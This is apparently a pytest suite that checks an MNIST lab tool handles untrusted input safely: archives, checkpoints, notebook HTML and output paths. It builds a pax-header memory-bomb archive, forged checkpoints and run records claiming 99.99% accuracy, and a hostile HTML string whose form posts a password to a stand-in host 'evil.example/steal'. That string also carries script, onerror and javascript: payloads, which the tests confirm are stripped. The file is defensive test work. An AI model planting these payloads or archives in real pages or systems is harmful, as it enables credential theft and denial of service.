"""Issue 33, "Everything that arrives is data": one test per defect of this part, each with the
issue's own reproduction. An archive, a run cache, a checkpoint, an executed notebook or an output
path may come from someone else; each is refused or ignored in one line, never trusted."""

from __future__ import annotations

import hashlib
import json
import os
import resource
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

from mnist_lab import paths
from mnist_lab.cli import main
from mnist_lab.workbook import archive

from test_archive import _read, _refused, _write, packed, victim  # noqa: F401 (fixtures)

ROOT = Path(__file__).resolve().parents[1]
MAX_LINE = 300


def _one_line(capsys) -> str:
    error = capsys.readouterr().err
    assert error.startswith("mnist-lab: error: ") and error.count("\n") == 1, error
    assert "Traceback" not in error and len(error.rstrip("\n")) <= MAX_LINE, error
    return error


def _command(argv: list[str], artifacts: Path, *, limit_bytes: int | None = None, timeout: float = 300,
             **options) -> subprocess.CompletedProcess:
    """`python -m mnist_lab ARGV` as a user starts it, on this worktree's package, with its own
    artifacts folder; with `limit_bytes`, under that address-space limit from its first instruction
    (`ulimit -v`), torch's import included."""
    def limit():
        resource.setrlimit(resource.RLIMIT_AS, (limit_bytes, limit_bytes))

    environment = {**os.environ, "PYTHONPATH": str(ROOT), "MNIST_LAB_ARTIFACTS": str(artifacts)}
    return subprocess.run([sys.executable, "-m", "mnist_lab", *argv], capture_output=True, text=True, cwd=ROOT,
                          env=environment, timeout=timeout, preexec_fn=limit if limit_bytes else None, **options)


# ---- 1. the memory bomb: a pax global header, and paths thousands of folders deep -------------------


def _pax_bomb(path: Path, members: int = 200) -> Path:
    """The issue's archive: one pax global header of about 11.6 MB (830,000 keywords, under the 16 MiB
    read cap) that tarfile copies into every later member, then `members` folders. Written block by
    block: tarfile's own writer takes minutes over so many keywords."""
    import gzip

    records = b"".join(b"14 k%07d=v\n" % number for number in range(830_000))  # 14 bytes each
    header = tarfile.TarInfo("././@PaxHeader")
    header.type, header.size = tarfile.XGLTYPE, len(records)
    padding = bytes(-len(records) % tarfile.BLOCKSIZE)
    with gzip.open(path, "wb") as stream:
        stream.write(header.tobuf(format=tarfile.USTAR_FORMAT) + records + padding)
        for number in range(members):
            folder = tarfile.TarInfo(f"smoke/runs/{number:016x}")
            folder.type = tarfile.DIRTYPE
            stream.write(folder.tobuf(format=tarfile.GNU_FORMAT))
        stream.write(bytes(2 * tarfile.BLOCKSIZE))
    return path


def test_1_a_pax_global_header_is_refused_in_one_line_under_a_4_5_gb_address_space(tmp_path):
    bomb = _pax_bomb(tmp_path / "bomb.tar.gz")
    assert bomb.stat().st_size < 3 * 1024**2  # about 2 MB on disk
    done = _command(["unpack", str(bomb)], tmp_path / "artifacts", limit_bytes=4_500_000_000)
    assert done.returncode == 1, done.stderr[-2000:]
    assert done.stderr.count("\n") == 1 and len(done.stderr) <= MAX_LINE + 1, done.stderr[-2000:]
    assert "holds a pax global header" in done.stderr and "nothing was changed" in done.stderr
    assert not (tmp_path / "artifacts" / "smoke").exists()


def test_1_a_member_thousands_of_folders_deep_is_one_line(tmp_path, capsys):
    deep = tmp_path / "deep.tar.gz"
    with tarfile.open(deep, "w:gz") as packed_:
        member = tarfile.TarInfo("smoke/runs/" + "a/" * 1500 + "x")
        member.type = tarfile.DIRTYPE
        packed_.addfile(member)
    assert main(["unpack", str(deep)]) == 1
    error = _one_line(capsys)
    assert f"parts deep, over the {archive.MAX_DEPTH} accepted" in error and "characters)" in error
    assert not (paths.ARTIFACTS / "smoke").exists()


# ---- 2. an archive carries results, not state ----------------------------------------------------------


def test_2_pack_carries_no_checkpoint_lock_or_page(project, tmp_path):
    runs = project / "artifacts" / "smoke" / "runs"
    key = next(path.name for path in runs.iterdir() if archive.RUN_FOLDER.fullmatch(path.name))
    (runs / f".{key}.checkpoint.pt").write_bytes(b"a checkpoint left by an interrupted training")
    assert (project / "artifacts" / "smoke" / "index.html").is_file()  # the build wrote pages
    names = _read(archive.pack("smoke", tmp_path / "smoke.tar.gz"))
    assert not [name for name in names if "/." in name or name.split("/")[1] in archive.PAGES], sorted(names)
    assert any(name.endswith("/model.pt") for name in names)


@pytest.mark.parametrize("planted, message", [
    ("runs/.KEY.checkpoint.pt", "is a training checkpoint, this machine's state"),
    ("runs/.index.lock", "is not a run, a run's file or the run cache's index"),
    ("runs/KEY/notes.txt", "is not a run, a run's file or the run cache's index"),
    ("html/q2_cnn.html", "is a page: pages are written by `mnist-lab report`"),
    ("index.html", "is a page: pages are written by `mnist-lab report`"),
])
def test_2_unpack_refuses_checkpoints_and_pages_even_with_a_matching_manifest(project, packed, tmp_path, victim,
                                                                              capsys, planted, message):
    contents = _read(packed)
    key = next(name.split("/")[2] for name in contents if name.startswith("smoke/runs/") and name.count("/") == 3)
    name = f"smoke/{planted.replace('KEY', key)}"
    if name.startswith("smoke/html/"):
        contents["smoke/html"] = None
    contents[name] = b"<script>document.title = 'pwned'</script>"  # a page dated 2106 would have stayed
    hostile = _write(tmp_path / "state.tar.gz", contents)  # with a manifest recomputed over it
    with tarfile.open(hostile) as check:
        assert name in check.getnames()
    error = _refused(capsys, project, victim, ["unpack", str(hostile)])
    assert message in error and len(error.rstrip("\n")) <= MAX_LINE


# ---- 5. notebook HTML in the pages is sanitised, not only fenced by a CSP ----------------------------------

HOSTILE_HTML = ('<meta http-equiv="refresh" content="0;url=https://evil.example/">'
                '<base href="https://evil.example/">'
                '<form action="https://evil.example/steal"><input name="password"></form>'
                '<script>document.title = "pwned"</script>'
                '<img src="x" onerror="document.title = \'pwned\'">'
                '<a href="javascript:alert(1)">a link</a>'
                '<table class="dataframe"><tr><th>accuracy</th></tr><tr><td>98.76</td></tr></table>')


def test_5_notebook_outputs_and_prose_lose_refresh_base_form_and_script(tmp_path, monkeypatch):
    import nbformat

    from mnist_lab.workbook import html

    monkeypatch.setattr(paths, "ARTIFACTS", tmp_path)
    cell = nbformat.v4.new_code_cell("1", outputs=[
        nbformat.v4.new_output("display_data", {"text/html": HOSTILE_HTML, "application/javascript": "alert(1)",
                                                "text/plain": "a table"}),
        nbformat.v4.new_output("execute_result", {"text/markdown": HOSTILE_HTML, "text/plain": "x"},
                               execution_count=1)])
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(f"# Hostile\n\n{HOSTILE_HTML}"), cell])
    executed = tmp_path / "smoke" / "notebooks" / "hostile.ipynb"
    executed.parent.mkdir(parents=True)
    nbformat.write(notebook, executed)
    page = html.export("hostile", "smoke").read_text()
    head, body = page.split("</head>", 1)
    assert 'http-equiv="Content-Security-Policy"' in head  # the second wall stays
    assert "http-equiv" not in body and "refresh" not in body
    for gone in ("<meta", "<base", "<form", "<input", "<script", "onerror", "javascript:", "evil.example", "pwned",
                 "alert("):
        assert gone not in body.lower(), gone
    assert "<td>98.76</td>" in body  # what a table needs survives
    assert "<h1" in body and "Hostile" in body


# ---- 6. every output path is checked like `pack --out` ------------------------------------------------------


@pytest.mark.parametrize("argv", [["bench", "--models", "basic_cnn", "--images", "64", "--repeats", "1"],
                                  ["pack", "--profile", "smoke"]])
def test_6_a_character_device_is_refused_as_an_output_in_one_line(capsys, argv):
    null = Path("/dev/null")  # only looked at: the check comes before anything is measured or written
    assert main([*argv, "--out", str(null)]) == 1
    error = _one_line(capsys)
    assert "/dev/null is a character device" in error and "writes only to a regular file or a new path" in error
    assert null.is_char_device()


def test_6_bench_out_refuses_a_fifo_and_a_link(tmp_path, capsys):
    for name, make in (("fifo", os.mkfifo), ("link", lambda path: path.symlink_to(tmp_path / "elsewhere"))):
        out = tmp_path / name
        make(out)
        assert main(["bench", "--models", "basic_cnn", "--out", str(out)]) == 1
        assert f"{out} is a" in _one_line(capsys)
    assert not (tmp_path / "elsewhere").exists()


def test_6_train_out_keeps_a_user_folder_whose_record_is_not_a_verified_run(tmp_path, capsys):
    """The issue's case: a folder of the user's own holding only config.json and provenance.json,
    the latter even of a run record's shape, is no run of this project: refused, kept as it was."""
    folder = tmp_path / "mine"
    folder.mkdir()
    (folder / "config.json").write_text('{"my": "settings"}\n')
    (folder / "provenance.json").write_text(json.dumps({"fingerprint": "mine", "inputs": {}, "code": {}, "data": {}}))
    before = {path.name: path.read_bytes() for path in folder.iterdir()}
    argv = ["train", "basic_cnn", "--epochs", "1", "--limit-train", "64", "--limit-test", "32", "--device", "cpu",
            "--no-progress", "--out", str(folder)]
    assert main(argv) == 1
    assert "holds files that are not a verified training run" in _one_line(capsys)
    assert {path.name: path.read_bytes() for path in folder.iterdir()} == before


# ---- 7. every weight load reads tensors only -------------------------------------------------------------


def _torch_loads(source: str):
    """Each `torch.load(...)` call in Python source, with whether it passes weights_only=True."""
    import ast

    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "load" \
                and isinstance(node.func.value, ast.Name) and node.func.value.id == "torch":
            yield node.lineno, any(k.arg == "weights_only" and isinstance(k.value, ast.Constant) and k.value.value is True
                                   for k in node.keywords)


def test_7_every_torch_load_in_the_package_and_the_notebooks_is_weights_only():
    import nbformat

    sources = {str(path.relative_to(ROOT)): path.read_text() for path in (ROOT / "mnist_lab").rglob("*.py")}
    for path in sorted((ROOT / "notebooks").glob("*.ipynb")):
        notebook = nbformat.read(path, as_version=4)
        assert all(not cell.get("outputs") for cell in notebook.cells if cell.cell_type == "code"), path  # no outputs
        code = [cell.source for cell in notebook.cells if cell.cell_type == "code"]
        sources[str(path.relative_to(ROOT))] = "\n".join(
            "\n".join(line for line in cell.splitlines() if not line.lstrip().startswith(("%", "!"))) for cell in code)
    loads = {(name, line): safe for name, source in sources.items() for line, safe in _torch_loads(source)}
    assert any(name.startswith("notebooks/q1_convolution") for name, _ in loads)  # the load is seen
    assert [where for where, safe in loads.items() if not safe] == []


# ---- 3. checkpoints resume only what this machine started -------------------------------------------------

TRAIN_CNN = ["train", "cnn", "--epochs", "1", "--limit-train", "500", "--limit-test", "200", "--no-progress"]


def _cli_spec():
    """The spec `mnist-lab train cnn --epochs 1 --limit-train 500 --limit-test 200` trains (cli._train)."""
    from mnist_lab.experiments import get_experiment
    from mnist_lab.spec import RunSpec

    return RunSpec.of(get_experiment("cnn").replace(epochs=1), 0, device="auto", precision="auto", limit_train=500,
                      limit_test=200, fast=True, cuda_graphs=True, deterministic=False)


def test_3_a_planted_checkpoint_claiming_99_99_percent_is_ignored_and_the_run_trained(mnist, tmp_path, capsys):
    import torch

    from mnist_lab.runs import RunCache
    from mnist_lab.runs.checkpoints import record_path
    from mnist_lab.train import fit

    spec = _cli_spec()
    genuine = tmp_path / "genuine.checkpoint.pt"
    fit(spec, data=mnist, progress=False, checkpoint=genuine)  # a real checkpoint: its identity matches
    state = torch.load(genuine, weights_only=True)
    assert state["epoch"] == 1
    for row in state["rows"]:
        row.update(test_accuracy=99.99, train_accuracy=99.99)
    planted = RunCache(paths.ARTIFACTS / "runs").checkpoint(spec)  # where `train` resumes this run from
    planted.parent.mkdir(parents=True)
    torch.save(state, planted)
    capsys.readouterr()
    assert main(TRAIN_CNN) == 0
    printed = capsys.readouterr().out
    assert f"ignoring checkpoint {planted}: not written by a training on this machine" in printed
    assert "99.99" not in printed and "resuming" not in printed
    assert not planted.exists() and not record_path(planted).exists()


def test_3_a_checkpoint_written_here_still_resumes(mnist, tmp_path, capsys):
    """The point of a checkpoint: a training interrupted here resumes, and its run is the run it was."""
    import torch

    from mnist_lab.runs import RunCache
    from mnist_lab.runs import checkpoints
    from mnist_lab.train import fit

    spec = _cli_spec()
    checkpoint = RunCache(paths.ARTIFACTS / "runs").checkpoint(spec)
    checkpoint.parent.mkdir(parents=True)
    fit(spec, data=mnist, progress=False, checkpoint=checkpoint, on_epoch_end=checkpoints.recording(checkpoint))
    assert checkpoints.written_here(checkpoint)
    accuracy = torch.load(checkpoint, weights_only=True)["rows"][-1]["test_accuracy"]
    capsys.readouterr()
    assert main(TRAIN_CNN) == 0
    printed = capsys.readouterr().out
    assert f"found {checkpoint}: resuming" in printed and f"test accuracy {accuracy:.2f}%" in printed
    assert not checkpoint.exists() and not checkpoints.record_path(checkpoint).exists()


# ---- 4. the PDF's appendix lists only verified runs --------------------------------------------------------


@pytest.mark.parametrize("forgery", ["no record", "a record of its own", "a genuine run's files, changed"])
def test_4_a_forged_run_claiming_99_99_percent_is_not_in_the_appendix(project, forgery):
    import shutil

    from mnist_lab.workbook import report

    runs = project / "artifacts" / "smoke" / "runs"
    genuine = next(path for path in sorted(runs.iterdir()) if archive.RUN_FOLDER.fullmatch(path.name))
    before = report.provenance_tex("smoke")
    assert "99.99" not in before and genuine.name[:12] in before  # a verified run is listed, by its key
    forged = runs / ("f" * 16)
    shutil.copytree(genuine, forged)
    metrics = json.loads((forged / "metrics.json").read_text())
    (forged / "metrics.json").write_text(json.dumps({**metrics, "test_accuracy": 99.99}))
    if forgery == "no record":
        (forged / "provenance.json").unlink()
    elif forgery == "a record of its own":  # the key its folder claims, the hashes of what it holds
        record = json.loads((forged / "provenance.json").read_text())
        record["fingerprint"] = "f" * 64
        record["files"]["metrics.json"] = hashlib.sha256((forged / "metrics.json").read_bytes()).hexdigest()
        (forged / "provenance.json").write_text(json.dumps(record))
        config = json.loads((forged / "config.json").read_text())
        (forged / "config.json").write_text(json.dumps({**config, "fingerprint": "f" * 64}))
        record["files"]["config.json"] = hashlib.sha256((forged / "config.json").read_bytes()).hexdigest()
        (forged / "provenance.json").write_text(json.dumps(record))
        shutil.rmtree(genuine)  # and the genuine run's key is not it either: only `ffff…` is there
    else:
        shutil.rmtree(genuine)
        forged.rename(genuine)  # the genuine run's folder, its metrics changed after the run
    appendix = report.provenance_tex("smoke")
    assert "99.99" not in appendix


# ---- 8. signals: one line, the shell's status, nothing left behind -----------------------------------------


@pytest.mark.slow  # Ray connects (and times out)
def test_8_ray_prints_no_warning_lines_before_its_one_line_connection_error(tmp_path):
    import socket

    with socket.socket() as silent:  # accepts connections and never speaks
        silent.bind(("127.0.0.1", 0))
        silent.listen()
        address = f"127.0.0.1:{silent.getsockname()[1]}"
        done = _command(["sweep", "basic_cnn", "--profile", "smoke", "--address", address, "--connect-timeout", "5"],
                        tmp_path / "artifacts", timeout=120)
    assert done.returncode == 1
    assert done.stderr.count("\n") == 1 and done.stderr.startswith("mnist-lab: error: no answer from the Ray"), \
        done.stderr


@pytest.mark.slow  # Ray starts
def test_8_sigterm_to_a_local_sweep_is_one_line_exit_143(tmp_path):
    import signal
    import time

    from mnist_lab.cli import TERMINATED
    from test_build_safety import _start_command, _wait_for

    environment = {**os.environ, "PYTHONPATH": str(ROOT), "MNIST_LAB_ARTIFACTS": str(tmp_path / "artifacts")}
    process = _start_command([sys.executable, "-m", "mnist_lab", "sweep", "basic_cnn", "--profile", "smoke"],
                             env=environment, cwd=ROOT)
    try:  # Ray is up once its raylet runs in the command's session, and ray.init has returned soon after
        _wait_for(lambda: subprocess.run(["pgrep", "-s", str(process.pid), "raylet"],
                                         capture_output=True).returncode == 0, timeout=300)
        time.sleep(5)
        process.send_signal(signal.SIGTERM)
        _, stderr = process.communicate(timeout=180)
    finally:
        if process.poll() is None:
            os.killpg(process.pid, signal.SIGKILL)
            process.wait()
    assert (process.returncode, [line for line in stderr.splitlines() if line.strip()]) == (143, [TERMINATED]), stderr


def test_8_sighup_during_latex_is_one_line_exit_129_and_leaves_no_latex_partial(smoke_artifacts, tmp_path):
    """The issue's case: SIGHUP to `report` while pdflatex runs exited 129 silently and left
    latex.partial/ behind."""
    import shutil
    import signal

    from mnist_lab.cli import HUNG_UP
    from test_build_safety import _start, _wait_for

    artifacts = tmp_path / "artifacts"
    shutil.copytree(smoke_artifacts.parent, artifacts)
    environment = {**os.environ, "MNIST_LAB_ARTIFACTS": str(artifacts), "PYTHONPATH": str(ROOT)}
    first = subprocess.run([sys.executable, "-m", "mnist_lab", "report", "--profile", "smoke"], env=environment,
                           capture_output=True, text=True)  # a good build first, as test_case4 does
    assert first.returncode == 0, first.stderr[-2000:]
    process = _start("report", "--profile", "smoke", "--force", env=environment)

    def pdflatex_runs() -> bool:
        assert process.poll() is None, process.communicate()[1][-2000:]  # ended before LaTeX ran: say why
        return subprocess.run(["pgrep", "-s", str(process.pid), "pdflatex"], capture_output=True).returncode == 0

    _wait_for(pdflatex_runs)
    process.send_signal(signal.SIGHUP)
    _, stderr = process.communicate(timeout=120)
    assert (process.returncode, [line for line in stderr.splitlines() if line.strip()]) == (129, [HUNG_UP])
    assert not (artifacts / "smoke" / "latex.partial").exists()
